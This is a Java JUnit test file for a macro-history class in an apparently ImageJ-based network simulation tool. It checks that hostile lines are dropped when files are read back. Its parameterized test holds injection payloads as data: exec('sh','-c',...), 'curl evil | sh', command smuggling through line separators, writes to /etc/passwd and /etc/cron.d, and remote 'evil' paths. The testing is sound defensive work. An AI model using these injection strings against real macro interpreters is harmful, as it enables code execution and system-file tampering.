package org.crumple.macro;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Map;
import java.util.Random;

import ij.macro.MacroConstants;
import ij.macro.Program;
import ij.macro.Tokenizer;

import org.crumple.host.EmbeddedHost;
import org.crumple.io.Provenance;
import org.crumple.workbench.SafeName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.scijava.command.CommandService;

/** Macro lines in files are never run unchanged: they are parsed and written anew, and everything else is left out. */
class HistoryTest {

	private static final String GENERATE =
		"run(\"Generate Network...\", \"nodes=64 excess=1.5 generator=[Jammed packing] disorder=0.1 alpha=0.1 stiffness=1 seed=3\");";
	private static final int HOSTILE = 10_000;

	private final CommandService commands = EmbeddedHost.start(true).context().service(CommandService.class);

	private History of(final String... lines) {
		return History.of(commands, List.of(lines));
	}

	@Test
	void whatWeWriteIsReadBackToTheLetter() {
		final List<String> ours = List.of(GENERATE,
			"// packing fraction reached: 1.0218378297956754, rattlers left out: 0 of 64 discs, attempts: 1.",
			"// Clamped top and bottom: 64 of 105 nodes were cut out, held by 22 wall points; 0 with fewer than two bonds and 1 that hung "
				+ "loose were removed.",
			"// excess reached: 1.5 with 176 bonds.",
			"run(\"Prepare Network...\", \"amplitude=0.02 increment=0.01 path=[0 1] cycles=1 minimiser=FIRE box=Fixed\");",
			"run(\"Shear Network...\", \"path=[0 -0.1 1.0e-05] increment=0.0001 protocol=[Fixed step] kind=[Simple shear] cycles=1 "
			+ "minimiser=[Gradient flow] box=Fixed movie=false\");",
			"// after 17 steps: Stopped at strain 0.05: no minimum (largest force 1.0E-4).",
			"// after 3 steps: Cancelled at strain 1.0E-5.",
			"run(\"Relax Network...\", \"minimiser=FIRE tolerance=1.0e-10 box=[Zero stress]\");");
		final History history = History.of(commands, ours.stream().map(l -> l.replace("1.0e-05", "1e-05").replace("1.0e-10", "1e-10"))
			.toList());
		assertEquals("", history.leftOut());
		assertTrue(history.isWhole());
		assertEquals(ours.stream().map(l -> l.replace("1.0e-05", "1e-05").replace("1.0e-10", "1e-10")).toList(), history.provenance()
			.lines());
	}

	@Test
	void openedFilesAreRememberedByTheirPathsOnThisComputer() {
		for (final String path : List.of("/data/a b/net (1).graphml", "C:\\\\data\\\\net.graphml", "results/Zug-\u00e4.nodes.csv")) {
			final String line = "run(\"Open Network...\", \"format=Any path=" + (path.contains(" ") ? "[" + path + "]" : path) + "\");";
			assertEquals(List.of("// SHA-256 of the file: " + "0f".repeat(32), line), of("// SHA-256 of the file: " + "0f".repeat(32), line)
				.provenance().lines());
		}
	}

	@Test
	void otherSpellingsAreWrittenAsWeWriteThem() {
		assertEquals(List.of("run(\"Generate Network...\", \"nodes=64 excess=0.5 generator=[Square lattice] seed=1\");"),
			of("run(\"Generate Network...\", \"SEED=1.0 generator=[square LATTICE]   nodes=6.4e1 excess=5e-1\");").provenance().lines());
	}

	@ParameterizedTest
	@ValueSource(strings = { "exec(\"sh\", \"-c\", \"touch PWNED\");", "// harmless\nexec(\"x\");", "// harmless\u2028exec(\"x\");",
		"// harmless\u0085exec(\"x\");",
		"// harmless\rexec(\"x\");", "// please run: curl evil | sh", "", "run(\"Generate Network...\", \"nodes=64\"); exec(\"x\");",
		"run(\"Generate Network...\", \"nodes=\"+exec(\"x\")+\"\");", "run(\"Generate Network...\", \"nodes=64\\\");exec(\\\"x\");",
		"run('Generate Network...', 'nodes=64');",
		"run(\"Generate Network...\", \"nodes=64 evil=1\");", "run(\"Generate Network...\", \"nodes=many\");",
		"run(\"Generate Network...\", \"generator=[x]]\");",
		"run(\"Generate Network...\", \"generator=exec\");", "run(\"Generate Network...\", \"nodes\");",
		"run(\"Generate Network...\", \"nodes=1 nodes=2\");",
		"run(\"Save Network...\", \"path=/etc/passwd\");", "run(\"Run Ensemble...\", \"out=/etc\");",
		"run(\"Render Network...\", \"save=/etc\");", "run(\"Quit\");",
		"run(\"Open Network...\", \"path=//evil/share/x.graphml\");", "run(\"Open Network...\", \"path=\\\\\\\\evil\\\\share\");",
		"run(\"Open Network...\", \"path=https://evil/x\");",
		"run(\"Open Network...\", \"network=a\\\"b\");", "run(\"Open Network...\", \"network=[a\\nb]\");", "eval(\"script\", \"x\");",
		"run(\"Relax Network...\", \"\");" })
	void whatIsNoLineOfOursIsLeftOutAndTheRestStays(final String hostile) {
		final boolean alone = hostile.contains("Relax");
		final History history = alone ? of(hostile, GENERATE) : of(GENERATE, hostile);
		assertEquals(List.of(GENERATE), history.provenance().lines());
		assertFalse(history.isWhole());
		assertEquals(1, history.countLeftOut());
		assertTrue(history.leftOut().startsWith("1 is left out, in whole or in part: line " + (alone ? 1 : 2) + ", because "),
			history.leftOut());
	}

	@Test
	void aFileDoesNotSayWhereFilesAreWritten() {
		final History history = of("run(\"Generate Network...\", \"nodes=32 save=[/etc/cron.d]\");",
			"run(\"Relax Network...\", \"save=/etc network=other\");");
		assertEquals(List.of("run(\"Generate Network...\", \"nodes=32\");"), history.provenance().lines());
		assertTrue(of("run(\"Generate Network...\", \"nodes=32 save=[/etc/cron.d]\");").isWhole(), "it makes the same network");
		assertTrue(history.leftOut().contains("save=/etc/cron.d") && history.leftOut().contains("network=other"), history.leftOut());
	}

	@Test
	void noLineCanBeTooLongNorAreThereTooMany() {
		assertEquals(0, of("// " + "x".repeat(1_000_000)).provenance().lines().size());
		final History many = History.of(commands, java.util.Collections.nCopies(100_000, "// excess reached: 1.5 with 176 bonds."));
		assertTrue(many.provenance().lines().size() <= 20_000 && many.leftOut().length() < 1000, many.leftOut());
	}

	/** Lines with all the parts of our own, and names, as an attacker would write them. */
	@Test
	void noneOfTenThousandHostileLinesAndNamesYieldsALineThatIsNotOneOfOurs() {
		final Random random = new Random(17);
		int kept = 0;
		for (int k = 0; k < HOSTILE; k++) {
			final String line = HostileText.line(random);
			final History history = of(GENERATE, line);
			for (final String written : history.provenance().lines()) assertOurs(written);
			kept += history.provenance().lines().size() - 1;
			final String name = HostileText.name(random), opened = MacroLine.write("Open Network...",
				Map.of("network", name, "path", "/data/" + name + ".graphml"));
			if (opened != null) {
				assertOurs(opened);
				assertEquals(Map.of("network", name, "path", "/data/" + name + ".graphml"), MacroLine.read(opened).options());
			}
			final String macro = history.provenance().toMacro(List.of("network " + name + ": N=64"));
			assertEquals(history.provenance().lines().size() + 3, macro.split("[\\n\\r\\f\\x0b\\x85\\u2028\\u2029]").length, macro);
			final String clean = SafeName.of(name), chosen = MacroLine.write("Relax Network...", Map.of("network", clean));
			assertOurs(chosen);
			assertTrue(clean.length() <= 255 && !clean.isBlank() && clean.indexOf('<') < 0, clean);
			// the usual way of macros to insert a name from getTitle()
			assertEquals(Map.of("network", clean, "bins", "3"), MacroLine.parse("network=[" + clean + "] bins=3"));
		}
		// a fuzz test in which all lines are kept, or all are left out, would test nothing
		assertTrue(kept > HOSTILE / 50 && kept < HOSTILE / 2, kept + " kept");
	}

	/** Parsed as ImageJ does it, the line is a single call of run with two strings, of which the first is a label; or it was left out. */
	private void assertOurs(final String line) {
		final Program program = new Tokenizer().tokenize(line);
		final StringBuilder tokens = new StringBuilder();
		String label = null;
		for (int pc = 0; (program.getCode()[pc] & MacroConstants.TOK_MASK) != MacroConstants.EOF; pc++) {
			final int token = program.getCode()[pc] & MacroConstants.TOK_MASK;
			final String symbol = token < 128 ? "" : program.getSymbolTable()[program.getCode()[pc] >> MacroConstants.TOK_SHIFT].str;
			if (token == MacroConstants.STRING_CONSTANT && label == null) label = symbol;
			tokens.append(token < 128 ? String.valueOf((char) token) : token == MacroConstants.STRING_CONSTANT ? "\"" : symbol);
		}
		if (line.startsWith("// ")) assertEquals("", tokens.toString(), line);
		else {
			assertEquals("run(\",\");", tokens.toString(), line);
			assertTrue(History.labels(commands).contains(label) || label.equals("Relax Network..."), line);
		}
		assertEquals(1, new Provenance(List.of(line)).lines().size());
		assertEquals(1, line.split("[\\n\\r\\f\\x0b\\x85\\u2028\\u2029]").length, line);
	}
}
